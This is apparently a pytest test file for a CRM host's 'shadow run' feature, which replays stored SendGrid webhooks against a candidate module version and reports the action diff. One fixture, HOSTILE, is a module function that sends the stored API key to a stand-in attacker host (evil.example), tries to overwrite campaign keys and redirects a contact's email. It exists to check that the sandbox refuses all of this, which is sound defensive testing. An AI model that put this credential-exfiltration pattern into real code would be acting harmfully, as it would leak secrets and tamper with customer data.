"""Shadow runs through the admin API and ``crm-host module shadow``: the bundled SendGrid
module at 1.0.0 receives real webhooks, then a changed 1.1.0 (group unsubscribes become
global ones) is shadowed over the stored requests and shows exactly that diff; hostile
versions that write storage, fetch, call writing host callbacks or spin change nothing, and
the host keeps serving."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from host.api.app import create_app
from host.db.models import Campaign, Delivery, WebhookReceipt
from host.platform import Host
from sandbox.pool import SandboxPool
from tests.cli_runner import Cli
from tests.host.conftest import (
    ADMIN_TOKEN,
    SECRET_KEY,
    make_host,
    table_dump,
)

MODULE_DIR = Path(__file__).resolve().parents[2] / "module_manifests" / "sendgrid"
API_KEY = "SG.shadow-run-secret-key-0123"
ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
SHADOW = "/api/v1/tenants/acme/modules/sendgrid/shadow"
GROUP_UNSUBSCRIBE = """    elif kind == "group_unsubscribe" and text_of(event.get("asm_group_id")):
        actions.append({"type": "Unsubscribe", "email": email,
                        "externalId": text_of(event.get("asm_group_id"))})"""
GLOBAL_UNSUBSCRIBE = """    elif kind == "group_unsubscribe" and text_of(event.get("asm_group_id")):
        actions.append({"type": "Unsubscribe", "email": email, "externalId": {"all": True}})"""

HOSTILE = """
def CRM_Marketing_ParseWebhookRequest(request):
    storage.set("owned", settings["api_key"], durable=True)
    storage.set("note", "shadow")
    refused = []
    for url in ("https://api.sendgrid.com/v3/marketing/contacts", "https://evil.example/x"):
        try:
            fetch(url, method="POST", body=settings["api_key"])
        except Exception as exc:
            refused.append(str(exc)[:40])
    try:
        crm.set_campaign_keys("ss-spring", ["stolen"])
    except Exception as exc:
        refused.append("keys")
    return {"actions": [
        {"type": "Unsubscribe", "email": "p0@example.test", "externalId": {"all": True}},
        {"type": "UpdateContact", "email": "p2@example.test", "newEmail": "x@evil.example"},
    ], "response": {"status": 200, "body": {"refused": len(refused)}}}
"""

SPINNING = """
def CRM_Marketing_ParseWebhookRequest(request):
    while True:
        pass
"""


def data_tables(host: Host) -> dict[str, list[tuple[Any, ...]]]:
    """Every table but the audit log: a shadow run is an admin's request, so the audit log
    records that it ran (who, when); nothing else may change."""
    tables = table_dump(host)
    tables.pop("audit_log")
    return tables


def sendgrid(version: str, script: str | None = None, **manifest_changes: Any) -> dict[str, Any]:
    manifest = json.loads((MODULE_DIR / "manifest.json").read_text())
    manifest.update(version=version, **manifest_changes)
    return {"manifest": manifest, "script": script or (MODULE_DIR / "module.py").read_text()}


def hostile(version: str, functions: str, **manifest_changes: Any) -> dict[str, Any]:
    """The SendGrid module with its ParseWebhookRequest replaced by ``functions``."""
    original = (MODULE_DIR / "module.py").read_text()
    head = original[: original.index("def CRM_Marketing_ParseWebhookRequest")]
    return sendgrid(version, head + functions, **manifest_changes)


def event(kind: str, email: str, event_id: str, **extra: Any) -> dict[str, Any]:
    return {
        "email": email,
        "event": kind,
        "timestamp": 1700000000,
        "sg_event_id": event_id,
        **extra,
    }


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, pool: SandboxPool) -> Iterator[dict[str, Any]]:
    """acme runs SendGrid 1.0.0 and received three webhooks; 1.1.0 and hostile versions
    are uploaded but not enabled."""
    db_path = tmp_path_factory.mktemp("shadow") / "host.db"
    host = make_host(db_path, sandbox=pool)
    with TestClient(create_app(host)) as client:
        for body in (
            sendgrid("1.0.0"),
            sendgrid(
                "1.1.0",
                (MODULE_DIR / "module.py")
                .read_text()
                .replace(GROUP_UNSUBSCRIBE, GLOBAL_UNSUBSCRIBE),
            ),
            hostile("6.6.6", HOSTILE),
            hostile("6.6.7", SPINNING, limits={"timeout_s": 1}),
        ):
            assert client.post("/api/v1/modules", json=body, headers=ADMIN).status_code == 201
        key = client.post("/api/v1/tenants", json={"id": "acme", "name": "A"}, headers=ADMIN)
        enabled = client.put(
            "/api/v1/tenants/acme/modules/sendgrid",
            json={"version": "1.0.0", "settings": {"api_key": API_KEY}},
            headers=ADMIN,
        )
        assert enabled.status_code == 200, enabled.text
        people = [{"id": f"c{i}", "name": f"P{i}", "email": f"p{i}@example.test"} for i in range(3)]
        tenant = {"Authorization": f"Bearer {key.json()['apiKey']}"}
        assert client.post("/api/v1/tenants/acme/contacts", json=people, headers=tenant).is_success
        with host.db.transaction() as session:
            session.add(
                Campaign(
                    id="spring",
                    tenant_id="acme",
                    module_id="sendgrid",
                    module_version="1.0.0",
                    type="Email",
                    name="Spring",
                    status="Sending",
                    stage="done",
                    external_id="ss-spring",
                )
            )
            session.flush()
            for i in range(3):
                session.add(
                    Delivery(
                        campaign_id="spring",
                        contact_id=f"c{i}",
                        email_key=f"p{i}@example.test",
                        status="Sent",
                        history=[],
                    )
                )
        hook = urlsplit(enabled.json()["webhookUrl"]).path
        delivered = [event("delivered", "p0@example.test", "e-d0", singlesend_id="ss-spring")]
        unsubscribed = [event("group_unsubscribe", "p1@example.test", "e-g1", asm_group_id=7)]
        for body in (delivered, unsubscribed):
            assert client.post(hook, content=json.dumps(body)).status_code == 200
        assert client.get(hook).status_code == 405  # stored too: the module answered it
        yield {"host": host, "client": client, "hook": hook, "db_path": db_path}
    host.close()


def shadow(client: TestClient, **body: Any) -> dict[str, Any]:
    answer = client.post(SHADOW, json=body, headers=ADMIN)
    assert answer.status_code == 200, answer.text
    return dict(answer.json())


def test_a_changed_sendgrid_version_shows_its_action_diff_and_keeps_nothing(
    world: dict[str, Any],
) -> None:
    host: Host = world["host"]
    before = data_tables(host)
    report = shadow(world["client"], version="1.1.0")
    assert (report["version"], report["currentVersion"]) == ("1.1.0", "1.0.0")
    assert (report["matched"], report["stopped"]) == (3, "complete")
    verdicts = [r["verdict"] for r in report["requests"]]
    assert verdicts == ["same", "differs", "same"]
    assert (report["same"], report["differs"], report["noBaseline"]) == (2, 1, 0)
    changed = report["requests"][1]
    assert changed["current"]["source"] == "receipt"
    assert changed["onlyCurrent"] == [
        {"type": "Unsubscribe", "email": "p1@example.test", "externalId": "7", "eventId": "e-g1"}
    ]
    assert changed["onlyCandidate"] == [
        {
            "type": "Unsubscribe",
            "email": "p1@example.test",
            "externalId": {"all": True},
            "eventId": "e-g1",
        }
    ]
    assert report["requests"][2]["candidate"]["status"] == 405
    assert all(r["candidate"]["durationMs"] is not None for r in report["requests"])
    assert data_tables(host) == before  # no action, receipt, storage or log row kept
    audited = table_dump(host)["audit_log"]
    assert any(
        "/modules/sendgrid/shadow" in str(row) and "admin token" in str(row) for row in audited
    )


def test_limit_and_window_bound_the_run(world: dict[str, Any]) -> None:
    newest = shadow(world["client"], version="1.1.0", limit=1)
    assert newest["matched"] == 3 and len(newest["requests"]) == 1
    assert newest["requests"][0]["candidate"]["status"] == 405  # the newest one
    empty = shadow(world["client"], version="1.1.0", until="2000-01-01T00:00:00+00:00")
    assert (empty["matched"], empty["requests"]) == (0, [])


@pytest.mark.parametrize(
    ("body", "status", "names"),
    [
        ({"version": "1.1.0", "limit": 0}, 422, "limit"),
        ({"version": "1.1.0", "limit": 1001}, 422, "limit"),
        ({"version": "1.1.0", "maxSeconds": 601}, 422, "maxSeconds"),
        ({"version": "1.1.0", "since": "yesterday"}, 422, "since"),
        (
            {"version": "1.1.0", "since": "2030-01-01T00:00:00Z", "until": "2029-01-01T00:00:00Z"},
            422,
            "until",
        ),
        ({"version": "9.9.9"}, 404, "9.9.9"),
        ({"version": "1.1.0", "dryRun": True}, 422, "dryRun"),
    ],
)
def test_bad_shadow_requests_are_clear_4xx(
    world: dict[str, Any], body: dict[str, Any], status: int, names: str
) -> None:
    host: Host = world["host"]
    before = data_tables(host)
    answer = world["client"].post(SHADOW, json=body, headers=ADMIN)
    assert answer.status_code == status, answer.text
    assert names in answer.text
    assert data_tables(host) == before


def test_only_the_admin_may_shadow(world: dict[str, Any]) -> None:
    client: TestClient = world["client"]
    assert client.post(SHADOW, json={"version": "1.1.0"}).status_code == 401
    key = world["host"].tenants.rotate_key("acme")
    answer = client.post(
        SHADOW, json={"version": "1.1.0"}, headers={"Authorization": f"Bearer {key}"}
    )
    assert answer.status_code == 403


def test_a_hostile_version_writes_fetches_and_applies_nothing(world: dict[str, Any]) -> None:
    host: Host = world["host"]
    client: TestClient = world["client"]
    before = data_tables(host)
    report = shadow(client, version="6.6.6")
    assert [r["verdict"] for r in report["requests"]] == ["differs"] * 3
    # storage writes stay in the run's private copy (later requests see them there, so
    # only the first one changes it); the writing host callback is refused every time
    writes = [r["candidate"]["storageWrites"] for r in report["requests"]]
    assert writes == [["crm.set_campaign_keys", "note", "owned"]] + [["crm.set_campaign_keys"]] * 2
    for result in report["requests"]:
        candidate = result["candidate"]
        assert candidate["status"] == 200 and candidate["error"] is None
        # the declared host's fetch was refused unmatched, the undeclared one by egress
        assert candidate["unmatchedFetches"] == [
            "POST https://api.sendgrid.com/v3/marketing/contacts"
        ]
        assert [a["type"] for a in result["onlyCandidate"]] == ["Unsubscribe", "UpdateContact"]
    assert API_KEY not in json.dumps(report)
    assert data_tables(host) == before  # no contact changed, no storage row, no receipt
    # the live path still works after the hostile run
    live = client.post(
        world["hook"],
        content=json.dumps([event("open", "p2@example.test", "e-o2", singlesend_id="ss-spring")]),
    )
    assert live.status_code == 200 and live.json() == {"received": 1}


def test_a_spinning_version_is_stopped_and_the_host_keeps_serving(world: dict[str, Any]) -> None:
    host: Host = world["host"]
    client: TestClient = world["client"]
    before = data_tables(host)
    report = shadow(client, version="6.6.7", limit=2)
    assert len(report["requests"]) == 2
    for result in report["requests"]:
        assert result["verdict"] == "differs"
        assert result["candidate"]["error"].startswith("timeout:")
        assert result["candidate"]["actions"] is None
    assert data_tables(host) == before
    assert client.get("/healthz").status_code == 200
    assert client.get(world["hook"]).status_code == 405  # the live version still answers


def test_a_receipt_without_kept_actions_is_compared_with_a_rerun(world: dict[str, Any]) -> None:
    """Receipts written before revision 0015 keep no actions: the current side reruns the
    receipt's version in shadow instead."""
    host: Host = world["host"]
    with host.db.transaction() as session:
        first = session.scalars(select(WebhookReceipt).order_by(WebhookReceipt.id)).first()
        assert first is not None and first.actions is not None
        kept, first.actions = first.actions, None
    try:
        report = shadow(world["client"], version="1.1.0", limit=1000)
        rerun = next(r for r in report["requests"] if r["request"] == first.request_id)
        assert rerun["current"]["source"] == "rerun"
        assert rerun["current"]["actions"] == kept
        assert rerun["verdict"] == "same"
    finally:
        with host.db.transaction() as session:
            row = session.get(WebhookReceipt, first.id)
            assert row is not None
            row.actions = kept


def test_the_cli_shows_progress_and_the_diff_and_writes_nothing(world: dict[str, Any]) -> None:
    db_path: Path = world["db_path"]
    stored = shadow(world["client"], version="1.1.0", limit=1)["matched"]  # earlier tests add some
    before = data_tables(world["host"])
    cli = Cli.in_dir(db_path.parent, CRM_HOST_SECRET_KEY=SECRET_KEY, CRM_HOST_SANDBOX_WORKERS="1")
    done = cli.run(
        "module",
        "shadow",
        "--tenant",
        "acme",
        "--module",
        "sendgrid",
        "--version",
        "1.1.0",
        "--limit",
        "1000",
    )
    assert done.returncode == 0, done.stderr
    assert "differs" in done.stdout
    assert '- {"email": "p1@example.test", "eventId": "e-g1", "externalId": "7"' in done.stdout
    assert '+ {"email": "p1@example.test", "eventId": "e-g1", "externalId": {"all": true}' in (
        done.stdout
    )
    summary = f"{stored} of {stored} stored requests: {stored - 1} same, 1 differ, 0 without"
    assert summary in done.stdout
    assert data_tables(world["host"]) == before
    bad = cli.run(
        "module",
        "shadow",
        "--tenant",
        "acme",
        "--module",
        "sendgrid",
        "--version",
        "1.1.0",
        "--since",
        "soon",
    )
    assert bad.returncode == 2 and bad.stderr.strip().splitlines()[-1] == (
        "error: --since: not an ISO 8601 time: 'soon'"
    )
    missing = cli.run(
        "module", "shadow", "--tenant", "acme", "--module", "sendgrid", "--version", "9.9.9"
    )
    assert missing.returncode == 1
    assert "error: module sendgrid has no version 9.9.9" in missing.stderr
    assert "Traceback" not in bad.stderr + missing.stderr


def test_erasing_a_contact_erases_it_from_the_kept_actions(world: dict[str, Any]) -> None:
    """Runs last: the receipts' kept actions are personal data, exported and erased with the
    contact like the rest of the receipt."""
    host: Host = world["host"]
    client: TestClient = world["client"]
    exported = client.get("/api/v1/tenants/acme/contacts/c1/export", headers=ADMIN)
    assert exported.status_code == 200, exported.text
    kept = [r["actions"] for r in exported.json()["webhookReceipts"]]
    assert any(a["email"] == "p1@example.test" for actions in kept for a in actions or [])
    assert client.delete("/api/v1/tenants/acme/contacts/c1", headers=ADMIN).status_code == 200
    receipts = data_tables(host)["webhook_receipts"]
    assert receipts and "p1@example.test" not in repr(receipts)
